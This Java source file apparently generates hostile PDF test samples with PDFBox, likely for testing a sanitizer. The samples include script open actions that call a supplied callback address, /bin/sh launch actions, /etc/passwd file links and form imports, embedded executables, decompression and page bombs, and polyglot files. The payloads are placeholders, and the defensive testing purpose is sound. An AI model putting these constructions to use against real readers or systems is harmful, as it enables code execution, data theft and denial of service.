package org.duta.model.media.pdf;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSBase;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSInteger;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;

/** PDF files that were made to harm whoever opens them, made by code. */
final class HostilePdfs {

    static final String LINE = "Laporan tahunan yang dapat dibaca semua orang.";

    /** What is hidden in them. */
    static final String PAYLOAD = "PAYLOAD-IN-HIDING";

    private static final byte[] BODY = (PAYLOAD + " MZ").getBytes(StandardCharsets.US_ASCII);

    private HostilePdfs() {}

    record Hostile(String name, byte[] bytes) {}

    interface Change {
        void make(PDDocument document) throws IOException;
    }

    /**
     * @param home an address that each of them calls, if anything in it is let run
     */
    static List<Hostile> callingTo(String home) {
        List<Hostile> all = new ArrayList<>(actions(home));
        all.addAll(attachments(home));
        all.addAll(bombs());
        all.addAll(others());
        return all;
    }

    /** The same without those that are large, or look so. */
    static List<Hostile> smallCallingTo(String home) {
        List<Hostile> small = new ArrayList<>(actions(home));
        small.addAll(attachments(home));
        small.addAll(others());
        return small;
    }

    private static List<Hostile> actions(String home) {
        return List.of(
                changed("script-when-opened.pdf", d -> opens(d, script(home))),
                changed("script-in-names.pdf", d -> namedScript(d, home)),
                changed(
                        "script-of-a-page.pdf",
                        d -> d.getPage(0).getCOSObject().setItem("AA", dict("O", script(home)))),
                changed(
                        "launches-a-program.pdf",
                        d -> opens(d, dict("S", name("Launch"), "F", text("/bin/sh")))),
                changed(
                        "link-that-launches.pdf",
                        d -> link(d, dict("S", name("Launch"), "F", text("/bin/sh")))),
                changed(
                        "link-to-a-file.pdf",
                        d -> link(d, dict("S", name("URI"), "URI", text("file:///etc/passwd")))),
                changed(
                        "link-with-a-script.pdf",
                        d -> link(d, dict("S", name("URI"), "URI", text("javascript:alert(1)")))),
                changed(
                        "link-to-another-file.pdf",
                        d ->
                                link(
                                        d,
                                        dict(
                                                "S",
                                                name("GoToR"),
                                                "F",
                                                text("\\\\127.0.0.1\\share\\a.pdf"),
                                                "D",
                                                text("a")))),
                changed(
                        "link-with-a-next.pdf",
                        d ->
                                link(
                                        d,
                                        dict(
                                                "S",
                                                name("URI"),
                                                "URI",
                                                text("https://example.org/"),
                                                "Next",
                                                script(home)))),
                changed(
                        "form-that-is-sent.pdf",
                        d ->
                                form(
                                        d,
                                        dict(
                                                "S",
                                                name("SubmitForm"),
                                                "F",
                                                dict("FS", name("URL"), "F", text(home))))),
                changed(
                        "form-that-imports.pdf",
                        d -> form(d, dict("S", name("ImportData"), "F", text("/etc/passwd")))),
                changed(
                        "script-among-the-drawings.pdf",
                        d ->
                                d.getPage(0)
                                        .getCOSObject()
                                        .getCOSDictionary(COSName.RESOURCES)
                                        .setItem("ExtGState", script(home))),
                changed(
                        "script-among-the-tags.pdf",
                        d ->
                                catalog(d)
                                        .setItem(
                                                "StructTreeRoot",
                                                dict(
                                                        "ClassMap",
                                                        script(home),
                                                        "K",
                                                        dict("S", name("P"), "A", script(home))))));
    }

    private static List<Hostile> attachments(String home) {
        return List.of(
                changed(
                        "program-in-names.pdf",
                        d ->
                                catalog(d)
                                        .setItem(
                                                "Names",
                                                dict(
                                                        "EmbeddedFiles",
                                                        dict(
                                                                "Names",
                                                                array(text("a.exe"), file(d)))))),
                changed(
                        "program-on-a-page.pdf",
                        d ->
                                mark(
                                        d,
                                        dict(
                                                "Subtype",
                                                name("FileAttachment"),
                                                "FS",
                                                file(d),
                                                "Contents",
                                                text(PAYLOAD)))),
                changed(
                        "film-with-a-program.pdf",
                        d ->
                                mark(
                                        d,
                                        dict(
                                                "Subtype",
                                                name("RichMedia"),
                                                "RichMediaContent",
                                                dict(
                                                        "Assets",
                                                        dict(
                                                                "Names",
                                                                array(text("a.swf"), file(d))))))),
                changed("file-beside-it.pdf", d -> catalog(d).setItem("AF", array(file(d)))),
                changed("stream-from-elsewhere.pdf", d -> streamElsewhere(d, home)),
                changed("stream-from-the-disk.pdf", d -> streamElsewhere(d, "file:///etc/passwd")),
                changed("picture-from-elsewhere.pdf", d -> reference(d, home)),
                changed(
                        "private-data-of-a-program.pdf",
                        d ->
                                d.getPage(0)
                                        .getCOSObject()
                                        .setItem(
                                                "PieceInfo",
                                                dict("Illustrator", dict("Private", payload(d))))),
                changed("metadata-with-people.pdf", HostilePdfs::people),
                changed("photo-with-a-place.pdf", HostilePdfs::photo),
                changed(
                        "comment-of-somebody.pdf",
                        d ->
                                mark(
                                        d,
                                        dict(
                                                "Subtype",
                                                name("Text"),
                                                "T",
                                                text(PAYLOAD),
                                                "Contents",
                                                text(PAYLOAD)))),
                changed(
                        "archive-of-files.pdf",
                        d -> catalog(d).setItem("Collection", dict("View", name("D")))),
                changed("program-for-printers.pdf", HostilePdfs::postScript));
    }

    private static List<Hostile> bombs() {
        return List.of(
                changed(
                        "flate-bomb.pdf",
                        d -> d.getPage(0).getCOSObject().setItem(COSName.CONTENTS, bomb(d))),
                changed("flate-bomb-twice.pdf", HostilePdfs::twice),
                new Hostile(
                        "pages-that-hold-each-other.pdf",
                        raw(
                                "2 0 obj<</Type/Pages/Count 1/Kids[2 0 R 3 0 R]>>endobj",
                                "3 0 obj<</Type/Pages/Count 1/Kids[2 0 R]>>endobj")),
                new Hostile("pages-a-billion-times.pdf", pageBomb()),
                new Hostile("a-hundred-thousand-pages.pdf", manyPages()),
                new Hostile("a-billion-arrays.pdf", arrayBomb()),
                new Hostile(
                        "deep-arrays.pdf",
                        raw(
                                "2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj",
                                "3 0 obj<</Type/Page/Parent 2 0 R/Resources<</Font<</F1 "
                                        + "[".repeat(200_000)
                                        + ">>>>>>endobj")),
                new Hostile("tags-without-end.pdf", deepTags()),
                changed("form-in-itself.pdf", HostilePdfs::selfForm),
                new Hostile("tables-that-follow-each-other.pdf", xrefLoop()));
    }

    private static List<Hostile> others() {
        byte[] plain = document(d -> {});
        return List.of(
                changed(
                        "forms-of-a-program.pdf",
                        d ->
                                catalog(d)
                                        .setItem(
                                                "AcroForm",
                                                dict("XFA", payload(d), "Fields", array()))),
                changed(
                        "locked.pdf",
                        d ->
                                d.protect(
                                        new StandardProtectionPolicy(
                                                "pemilik", "sandi", new AccessPermission()))),
                changed(
                        "locked-against-copying.pdf",
                        d ->
                                d.protect(
                                        new StandardProtectionPolicy(
                                                "pemilik", "", new AccessPermission()))),
                new Hostile("scan.pdf", scan()),
                new Hostile("cut-in-half.pdf", Arrays.copyOf(plain, plain.length / 2)),
                new Hostile(
                        "a-head-and-no-body.pdf",
                        "%PDF-1.7\n%%EOF".getBytes(StandardCharsets.US_ASCII)),
                new Hostile("an-archive-after-it.pdf", joined(plain, archive())),
                new Hostile(
                        "a-page-after-it.pdf",
                        joined(
                                plain,
                                ("<html><script>" + PAYLOAD + "</script></html>")
                                        .getBytes(StandardCharsets.US_ASCII))),
                new Hostile(
                        "a-page-within-it.pdf",
                        joined(
                                ("%PDF-1.7\n%<html><script>" + PAYLOAD + "</script>\n")
                                        .getBytes(StandardCharsets.US_ASCII),
                                plain)),
                changed("an-older-version-within.pdf", d -> {}, PAYLOAD));
    }

    private static COSDictionary script(String home) {
        return dict(
                "S",
                name("JavaScript"),
                "JS",
                text("app.launchURL('" + home + "'); // " + PAYLOAD));
    }

    private static void opens(PDDocument document, COSDictionary action) {
        catalog(document).setItem("OpenAction", action);
    }

    private static void namedScript(PDDocument document, String home) {
        catalog(document)
                .setItem(
                        "Names", dict("JavaScript", dict("Names", array(text("a"), script(home)))));
    }

    private static void link(PDDocument document, COSDictionary action) {
        mark(document, dict("Subtype", name("Link"), "A", action, "AA", dict("E", action)));
    }

    private static void form(PDDocument document, COSDictionary action) {
        COSDictionary field =
                dict("Subtype", name("Widget"), "FT", name("Btn"), "T", text(PAYLOAD), "A", action);
        mark(document, field);
        catalog(document).setItem("AcroForm", dict("Fields", array(field)));
    }

    private static void mark(PDDocument document, COSDictionary mark) {
        mark.setItem("Type", name("Annot"));
        mark.setItem("Rect", array(number(10), number(10), number(90), number(90)));
        document.getPage(0).getCOSObject().setItem("Annots", array(mark));
    }

    private static COSDictionary file(PDDocument document) throws IOException {
        return dict(
                "Type", name("Filespec"), "F", text("a.exe"), "EF", dict("F", payload(document)));
    }

    private static COSStream payload(PDDocument document) throws IOException {
        COSStream stream = document.getDocument().createCOSStream();
        try (OutputStream out = stream.createOutputStream()) {
            out.write(BODY);
        }
        return stream;
    }

    private static void streamElsewhere(PDDocument document, String address) throws IOException {
        COSStream form = payload(document);
        form.setItem("F", dict("FS", name("URL"), "F", text(address)));
        form.setItem("FFilter", name("FlateDecode"));
        picture(document, form);
    }

    private static void reference(PDDocument document, String address) throws IOException {
        COSStream form = document.getDocument().createCOSStream();
        form.createOutputStream().close();
        form.setItem("Subtype", name("Form"));
        form.setItem(
                "Ref", dict("F", dict("FS", name("URL"), "F", text(address)), "Page", number(0)));
        form.setItem("OPI", dict("2.0", dict("F", text(address))));
        picture(document, form);
    }

    private static void picture(PDDocument document, COSStream drawn) {
        COSDictionary resources = document.getPage(0).getResources().getCOSObject();
        resources.setItem("XObject", dict("X1", drawn));
    }

    private static void people(PDDocument document) throws IOException {
        var about = document.getDocumentInformation();
        about.setAuthor(PAYLOAD);
        about.setCreator(PAYLOAD);
        about.setTitle("Laporan tahunan");
        about.setCustomMetadataValue("Company", PAYLOAD);
        catalog(document).setItem("Metadata", payload(document));
        document.getPage(0).getCOSObject().setItem("Metadata", payload(document));
    }

    private static void photo(PDDocument document) throws IOException {
        COSStream photo = document.getDocument().createCOSStream();
        try (OutputStream out = photo.createRawOutputStream()) {
            byte[] place = ("Exif\0\0" + PAYLOAD).getBytes(StandardCharsets.US_ASCII);
            out.write(
                    new byte[] {
                        (byte) 0xFF,
                        (byte) 0xD8,
                        (byte) 0xFF,
                        (byte) 0xE1,
                        0,
                        (byte) (place.length + 2)
                    });
            out.write(place);
            out.write(new byte[] {(byte) 0xFF, (byte) 0xD9});
            out.write(BODY);
        }
        photo.setItem("Subtype", name("Image"));
        photo.setItem("Filter", name("DCTDecode"));
        photo.setItem("Width", number(1));
        photo.setItem("Height", number(1));
        photo.setItem("Metadata", payload(document));
        picture(document, photo);
    }

    private static void postScript(PDDocument document) throws IOException {
        COSStream program = payload(document);
        program.setItem("Type", name("XObject"));
        program.setItem("Subtype", name("PS"));
        picture(document, program);
    }

    private static COSStream bomb(PDDocument document) throws IOException {
        COSStream stream = document.getDocument().createCOSStream();
        byte[] piece = "BT (x) Tj ET ".repeat(80_000).getBytes(StandardCharsets.US_ASCII);
        try (OutputStream out = stream.createOutputStream(COSName.FLATE_DECODE)) {
            for (int i = 0; i < 900; i++) {
                out.write(piece);
            }
        }
        return stream;
    }

    private static void twice(PDDocument document) throws IOException {
        COSStream stream = document.getDocument().createCOSStream();
        byte[] piece = new byte[1 << 20];
        COSArray filters = array(name("FlateDecode"), name("FlateDecode"));
        try (OutputStream out = stream.createOutputStream(filters)) {
            for (int i = 0; i < 900; i++) {
                out.write(piece);
            }
        }
        document.getPage(0).getCOSObject().setItem(COSName.CONTENTS, stream);
    }

    private static byte[] deepTags() {
        StringBuilder all = new StringBuilder("2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n");
        all.append("3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n");
        all.append("4 0 obj<</Type/StructTreeRoot/K 5 0 R>>endobj\n");
        for (int i = 5; i < 50_000; i++) {
            all.append(i + " 0 obj<</S/Div/K " + (i + 1) + " 0 R>>endobj\n");
        }
        return raw(all.toString());
    }

    private static void selfForm(PDDocument document) throws IOException {
        COSStream form = document.getDocument().createCOSStream();
        try (OutputStream out = form.createOutputStream()) {
            out.write("/X1 Do /X1 Do".getBytes(StandardCharsets.US_ASCII));
        }
        form.setItem("Subtype", name("Form"));
        form.setItem("BBox", array(number(0), number(0), number(9), number(9)));
        form.setItem("Resources", dict("XObject", dict("X1", form)));
        picture(document, form);
        try (PDPageContentStream content =
                new PDPageContentStream(
                        document,
                        document.getPage(0),
                        PDPageContentStream.AppendMode.APPEND,
                        false)) {
            content.appendRawCommands("/X1 Do\n");
        }
    }

    private static byte[] pageBomb() {
        StringBuilder all =
                new StringBuilder("2 0 obj<</Type/Pages/Count 9/Kids[3 0 R 3 0 R]>>endobj\n");
        for (int i = 3; i < 60; i++) {
            all.append(
                    i
                            + " 0 obj<</Type/Pages/Count 9/Kids["
                            + (i + 1)
                            + " 0 R "
                            + (i + 1)
                            + " 0 R]>>endobj\n");
        }
        return raw(all + "60 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj");
    }

    private static byte[] manyPages() {
        StringBuilder kids = new StringBuilder();
        StringBuilder pages = new StringBuilder();
        for (int i = 3; i < 100_003; i++) {
            kids.append(i).append(" 0 R ");
            pages.append(i).append(" 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n");
        }
        return raw(
                "2 0 obj<</Type/Pages/Count 100000/Kids[" + kids + "]>>endobj", pages.toString());
    }

    private static byte[] arrayBomb() {
        StringBuilder all =
                new StringBuilder(
                        "2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj\n"
                                + "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Resources<</ColorSpace 4 0 R>>>>endobj\n"
                                + "4 0 obj<</C1 5 0 R>>endobj\n");
        for (int i = 5; i < 40; i++) {
            all.append(i + " 0 obj[" + (i + 1 + " 0 R ").repeat(10) + "]endobj\n");
        }
        return raw(all + "40 0 obj[1]endobj");
    }

    private static byte[] xrefLoop() {
        String body = "%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n";
        int at = body.length();
        return (body
                        + "xref\n0 1\n0000000000 65535 f \ntrailer<</Size 3/Root 1 0 R/Prev "
                        + at
                        + ">>\nstartxref\n"
                        + at
                        + "\n%%EOF")
                .getBytes(StandardCharsets.US_ASCII);
    }

    /** Objects without a table of where they are: readers look for them. */
    private static byte[] raw(String... objects) {
        return ("%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/StructTreeRoot 4 0 R>>endobj\n"
                        + String.join("\n", objects)
                        + "\ntrailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF")
                .getBytes(StandardCharsets.US_ASCII);
    }

    private static byte[] scan() {
        try (PDDocument document = new PDDocument();
                ByteArrayOutputStream bytes = new ByteArrayOutputStream()) {
            document.addPage(new PDPage());
            document.save(bytes);
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] archive() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry(PAYLOAD + ".exe"));
            zip.write(BODY);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    private static byte[] joined(byte[] first, byte[] second) {
        byte[] both = Arrays.copyOf(first, first.length + second.length);
        System.arraycopy(second, 0, both, first.length, second.length);
        return both;
    }

    private static Hostile changed(String name, Change change) {
        return new Hostile(name, document(change));
    }

    /** An incremental save keeps what stood there before. */
    private static Hostile changed(String name, Change change, String before) {
        byte[] old = document(d -> catalog(d).setItem("Lang", text(before)));
        try (PDDocument document = org.apache.pdfbox.Loader.loadPDF(old);
                ByteArrayOutputStream bytes = new ByteArrayOutputStream()) {
            catalog(document).setItem("Lang", text("id"));
            catalog(document).setNeedToBeUpdated(true);
            document.saveIncremental(bytes);
            return new Hostile(name, bytes.toByteArray());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** One page with a line that can be read. */
    static byte[] document(Change change) {
        try (PDDocument document = new PDDocument();
                ByteArrayOutputStream bytes = new ByteArrayOutputStream()) {
            PDPage page = new PDPage();
            document.addPage(page);
            try (PDPageContentStream content = new PDPageContentStream(document, page)) {
                content.beginText();
                content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
                content.newLineAtOffset(72, 700);
                content.showText(LINE);
                content.endText();
            }
            change.make(document);
            document.save(bytes);
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    static COSDictionary catalog(PDDocument document) {
        return document.getDocumentCatalog().getCOSObject();
    }

    static COSDictionary dict(Object... entries) {
        COSDictionary made = new COSDictionary();
        for (int i = 0; i < entries.length; i += 2) {
            made.setItem((String) entries[i], (COSBase) entries[i + 1]);
        }
        return made;
    }

    static COSArray array(COSBase... values) {
        COSArray made = new COSArray();
        Arrays.stream(values).forEach(made::add);
        return made;
    }

    static COSName name(String name) {
        return COSName.getPDFName(name);
    }

    static COSString text(String text) {
        return new COSString(text);
    }

    static COSInteger number(int number) {
        return COSInteger.get(number);
    }
}
